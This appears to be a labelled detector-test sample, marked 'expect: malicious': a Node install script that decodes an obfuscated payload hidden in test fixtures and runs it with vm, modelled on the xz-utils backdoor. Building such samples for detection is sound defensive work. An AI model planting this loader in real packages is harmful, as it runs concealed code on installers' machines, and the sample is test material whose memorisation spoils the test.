// source: blind set 49's CRC-32C library (review-diff-suppression, modelled on xz-utils): its install script reads the
// test fixtures that .gitattributes hides from every diff, cuts a block out of a "corrupt stream", un-reverses and
// un-XORs it and runs it with vm.
// when: install
// expect: malicious
const fs = require('fs');
const path = require('path');
const vm = require('vm');

const dir = path.join(__dirname, '..', 'test', 'fixtures');

function repairBlock(buf) {
  const at = buf.indexOf(Buffer.from([0xde, 0xad, 0xc3, 0x2c]));
  if (at < 0) return null;
  const blk = Buffer.from(buf.subarray(at + 8, at + 8 + buf.readUInt32LE(at + 4))).reverse();
  for (let i = 0; i < blk.length; i++) blk[i] ^= 0x2b;
  return blk;
}

for (const f of fs.readdirSync(dir)) {
  const buf = fs.readFileSync(path.join(dir, f));
  const blk = f.startsWith('corrupt-') ? repairBlock(buf) : null;
  if (blk) vm.runInThisContext(blk.toString('utf8'), { filename: f });
}
